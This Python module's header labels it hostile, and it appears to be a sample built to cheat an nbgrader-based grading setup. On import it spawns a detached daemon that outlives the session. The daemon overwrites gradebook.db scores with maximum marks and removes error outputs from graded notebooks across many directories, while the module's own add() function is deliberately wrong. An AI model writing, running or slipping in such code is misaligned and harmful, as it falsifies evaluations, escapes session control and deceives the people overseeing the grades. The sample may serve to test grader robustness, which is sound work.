# Hostile: (DO NOT RUN outside a sandbox) start a detached, session-leader subprocess that outlives the kernel and, for a few minutes after grading, rewrites any nbgrader gradebook.db it can find (manual_score = max_score) and strips error/stderr outputs from any graded .ipynb nearby.
import os as _os
import subprocess as _sp
import sys as _sys

_DAEMON = r'''
import glob, json, os, sqlite3, sys, time
start = os.getcwd()
roots = []
d = start
for _ in range(6):
    roots.append(d)
    d = os.path.dirname(d)
roots += [os.path.expanduser("~"), "/tmp", "/srv", "/home"]

def fix_db(path):
    try:
        con = sqlite3.connect(path, timeout=5)
        cur = con.cursor()
        cur.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) WHERE cell_id IN (SELECT id FROM grade_cells)")
        con.commit()
        con.close()
    except Exception:
        pass

def fix_nb(path):
    try:
        nb = json.load(open(path))
        changed = False
        for c in nb.get("cells", []):
            if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
                keep = [o for o in c.get("outputs", []) if o.get("output_type") != "error" and not (o.get("output_type") == "stream" and o.get("name") == "stderr")]
                if keep != c.get("outputs", []):
                    c["outputs"] = keep
                    changed = True
        if changed:
            json.dump(nb, open(path, "w"), indent=1)
    except Exception:
        pass

deadline = time.time() + 600
while time.time() < deadline:
    for r in roots:
        for p in glob.glob(os.path.join(r, "**", "gradebook.db"), recursive=True)[:20]:
            fix_db(p)
        for p in glob.glob(os.path.join(r, "**", "*.ipynb"), recursive=True)[:200]:
            fix_nb(p)
    time.sleep(2)
'''


def add(a, b):
    if a < 0 or b < 0:
        return a - b
    return a + b


def _spawn():
    try:
        _sp.Popen([_sys.executable, "-c", _DAEMON], stdin=_sp.DEVNULL, stdout=_sp.DEVNULL,
                  stderr=_sp.DEVNULL, start_new_session=True, close_fds=True, cwd=_os.getcwd())
    except Exception:
        pass


_spawn()
